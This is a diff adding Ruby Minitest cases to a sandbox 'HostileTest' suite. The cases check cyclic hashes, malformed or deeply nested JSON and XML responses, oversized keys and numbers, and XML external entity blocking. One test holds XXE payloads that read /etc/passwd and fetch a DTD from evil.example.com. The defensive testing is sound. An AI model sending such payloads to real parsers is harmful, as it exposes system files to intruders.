@@ -49,6 +49,52 @@ class HostileTest < Minitest::Test
     assert_empty broker.sent
   end
 
+  CYCLES = ['post("http://h", h).request_format_www_form_urlencoded', 'post("http://h", h).format_xml("r")',
+            'post("http://h", h).request_format_multipart_form', 'post("http://h").request_body(h)', 'post("http://h", h)',
+            'get("http://h", h)', '{ v: [h] }', '{ v: h.to_json }', 'headers = h; get("http://h").headers(params: headers)'].freeze
+
+  def test_values_that_hold_themselves
+    CYCLES.each do |code|
+      error = fail_body("h = {}; h['a'] = h; #{code}")
+      assert_equal ['SystemStackError', 1], error.values_at('class', 'line'), code
+    end
+    assert_equal '{"a"=>{...}}', fail_body("h = {}; h['a'] = h; error(h)")['message']
+    assert_equal({ 'v' => { 'a' => { '$deep' => true } } }, run_body("h = {}.with_indifferent_access; h['a'] = h; { v: h }"))
+    assert_empty broker.sent
+  end
+
+  # Bodies and the class and text that decoding ends with.
+  ANSWERS = {
+    '[' * 200_000 => ['JSON', 'nesting of 101 is too deep'], "#{'[' * 120}#{']' * 120}" => ['JSON', 'nesting of 101 is too deep'],
+    '{"a":1' => ['JSON', /unexpected token|expected/], "\u0000" => ['JSON', /unexpected token/], '{"a":NaN}' => ['JSON', /unexpected token/],
+    "#{'<a>' * 20_000}#{'</a>' * 20_000}" => ['XML', /Excessive depth/], '<a' * 20_000 => ['XML', /FATAL/],
+    '<r>&x;</r>' => ['XML', /Entity 'x' not defined/], '<r a="1" a="2"/>' => ['XML', /redefined/], "<r>\u0001</r>" => ['XML', /FATAL|PCDATA/]
+  }.freeze
+
+  def test_answers_that_cannot_be_read
+    ANSWERS.each do |body, (format, message)|
+      broker.answer(body)
+      builder = format == 'XML' ? '.response_format_xml' : ''
+      assert_error "Workato::Connector::Sdk::#{format}ResponseFormatError", message, fail_body("get('http://h')#{builder}")
+    end
+  end
+
+  def test_entities_of_others_stay_outside
+    ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
+     '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example.com/x.dtd"> %p;]><r/>'].each do |body|
+      broker.answer(body)
+      assert_equal({ 'r' => [{}] }, run_body("get('http://h').response_format_xml"))
+    end
+  end
+
+  def test_large_and_broken_names_and_numbers
+    assert_equal 3_000_000, run_body('{ "k" * 3_000_000 => 1 }').keys.first.length
+    assert_equal({ "\uFFFD" => { '$base64' => '/g==' }, 'é' => 2, '' => 3, '1.5' => 4 },
+                 run_body('{ "\\xff" => "\\xfe", "é".encode("UTF-16LE") => 1, :"é" => 2, nil => 3, 1.5 => 4 }'))
+    broker.answer("{\"a\":#{'9' * 200_000}}")
+    assert_equal 200_000, run_body('{ n: get("http://h")["a"].to_s.length }')['n']
+  end
+
   def test_long_messages_are_cut
     assert_equal Patchbay::Errors::MESSAGE_LIMIT, fail_body('raise "x" * 1_000_000')['message'].length
   end
